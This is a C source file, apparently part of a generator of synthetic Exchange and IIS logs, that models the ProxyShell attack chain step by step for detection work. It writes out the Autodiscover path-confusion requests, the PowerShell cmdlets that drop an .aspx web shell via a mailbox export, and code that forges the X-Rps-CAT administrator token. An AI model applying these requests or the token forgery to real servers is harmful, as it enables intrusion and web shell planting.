/*
 * exgen: ProxyShell (CVE-2021-34473, -34523, -31207), as mass-exploited from
 * August 2021 (indicators.md 2.6).  Anonymous autodiscover.json path confusion
 * to the back end: autodiscover.xml (LegacyDN), /mapi/nspi (SID), /EWS (the
 * payload mail saved as a draft) and /powershell with an X-Rps-CAT token (remote
 * PowerShell as the administrator: the Mailbox Import Export role, then
 * New-MailboxExportRequest writing the mail as an .aspx page under aspnet_client,
 * Remove-MailboxExportRequest); then the page in use.  IIS front and back end,
 * HttpProxy Autodiscover, Rps_Http and Rps_Cmdlet lines.
 */
#include "exgen.h"

#include <stdio.h>
#include <string.h>

#define PS_Q(path) "{AT}" path "?&Email=autodiscover/autodiscover.json%3F{AT}"
#define PS_PSQ "{AT}/powershell/?X-Rps-CAT={CAT}&Email=autodiscover/autodiscover.json%3F{AT}"
#define PS_BEQ "X-Rps-CAT={CAT}&Email=autodiscover/autodiscover.json%3F{AT}"
#define PSH(off_, fl_, tt_, cmdlet_, params_, stage_, desc_)                                                    \
	{(off_), 0, UA_PSRP, P_AUTOD, CS_BE_ADMIN | CS_RPSH | (fl_), 200, (tt_), "POST",                             \
	 "/autodiscover/autodiscover.json", PS_PSQ, "/powershell", PS_BEQ, (cmdlet_), (params_), (stage_), (desc_)}

static const CStep PS[] = {
    {0, 0, UA_PYREQ26, P_AUTOD, CS_FIRST, 200, 211, "POST", "/autodiscover/autodiscover.json",
     PS_Q("/autodiscover/autodiscover.xml"), "/autodiscover/autodiscover.xml", "", NULL, NULL, "ssrf",
     "CVE-2021-34473: Autodiscover path confusion to /autodiscover/autodiscover.xml (LegacyDN)"},
    {2, 0, UA_PYREQ26, P_AUTOD, 0, 200, 164, "POST", "/autodiscover/autodiscover.json", PS_Q("/mapi/nspi/"),
     "/mapi/nspi/", "", NULL, NULL, "ssrf", "CVE-2021-34473: Autodiscover path confusion to /mapi/nspi (SID)"},
    PSH(5, 0, 352, NULL, NULL, "rps", "CVE-2021-34523: remote PowerShell as the administrator through X-Rps-CAT"),
    PSH(7, 0, 118, NULL, NULL, "rps", "CVE-2021-34523: remote PowerShell as the administrator through X-Rps-CAT"),
    PSH(31, 0, 1840, "New-ManagementRoleAssignment", "-Role \"Mailbox Import Export\" -User \"administrator@contoso.com\"",
        "privilege", "remote PowerShell: Mailbox Import Export role for the administrator"),
    {58, 0, UA_PYREQ26, P_AUTOD, 0, 200, 402, "POST", "/autodiscover/autodiscover.json", PS_Q("/EWS/exchange.asmx"),
     "/EWS/exchange.asmx", "", NULL, NULL, "ssrf",
     "CVE-2021-34473: EWS through the path confusion saves the payload mail as a draft"},
    PSH(97, CS_SHELL, 2960, "New-MailboxExportRequest",
        "-Mailbox \"administrator@contoso.com\" -IncludeFolders \"#Drafts#\" -ContentFilter \"Subject -eq '{SUBJ}'\" "
        "-ExcludeDumpster \"True\" -FilePath \"\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\{SH}\"",
        "webshell-drop", "CVE-2021-31207: New-MailboxExportRequest writes the draft as a page under aspnet_client"),
    PSH(131, 0, 690, "Remove-MailboxExportRequest", "-Identity \"administrator@contoso.com\\MailboxExport\" -Confirm \"False\"",
        "cleanup", "remote PowerShell: the export request removed"),
    CS_PAGE(262, 0, UA_CHROME92, "POST", "/aspnet_client/{SH}", 388, "webshell-use",
            "POST to the exported page (web shell)"),
    CS_PAGE(279, 0, UA_CHROME92, "POST", "/aspnet_client/{SH}", 1204, "webshell-use",
            "POST to the exported page (web shell)"),
    CS_PAGE(7422, 0, UA_CHROME92, "POST", "/aspnet_client/{SH}", 640, "webshell-use",
            "POST to the exported page (web shell)"),
    CS_PAGE(93611, 1, UA_PYREQ26, "GET", "/aspnet_client/{SH}", 57, "second-actor",
            "second actor checks the page"),
    CS_PAGE(93640, 1, UA_PYREQ26, "POST", "/aspnet_client/{SH}", 233, "second-actor",
            "second actor uses the page"),
};
#define NPS ((int)(sizeof PS / sizeof PS[0]))

/* The X-Rps-CAT token the exploits send: a serialized CommonAccessToken (version,
 * type "Windows", authentication "Kerberos", logon name, the user's SID), base64. */
void ps_cat(Gen *g)
{
	if (g->plan.cat[0])
		return;
	unsigned char t[160];
	size_t n = 0;
	static const char head[] = "V\x01\x00T\x07WindowsC\x00" "A\x08Kerberos";
	memcpy(t, head, sizeof head - 1);
	n = sizeof head - 1;
	static const char upn[] = "administrator@contoso.com";
	t[n++] = 'L';
	t[n++] = (unsigned char)(sizeof upn - 1);
	memcpy(t + n, upn, sizeof upn - 1);
	n += sizeof upn - 1;
	char sid[72];
	int k = snprintf(sid, sizeof sid, "%s-500", g->domsid);
	if (k < 0 || k > 70)
		k = 0;
	t[n++] = 'U';
	t[n++] = (unsigned char)k;
	memcpy(t + n, sid, (size_t)k);
	n += (size_t)k;
	static const char B64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	char *o = g->plan.cat;
	for (size_t i = 0; i < n; i += 3) {
		unsigned v = (unsigned)t[i] << 16 | (i + 1 < n ? (unsigned)t[i + 1] << 8 : 0) | (i + 2 < n ? t[i + 2] : 0);
		*o++ = B64[v >> 18 & 63];
		*o++ = B64[v >> 12 & 63];
		*o++ = i + 1 < n ? B64[v >> 6 & 63] : '=';
		*o++ = i + 2 < n ? B64[v & 63] : '=';
	}
	*o = 0;
}

const Campaign CAMPAIGN_PS = {
    PS, NPS,
    {SD_ASPNET, true, "CVE-2021-31207: mailbox export written as a page (PST header, script in the mail)",
     "exh_pst_export_page"}};
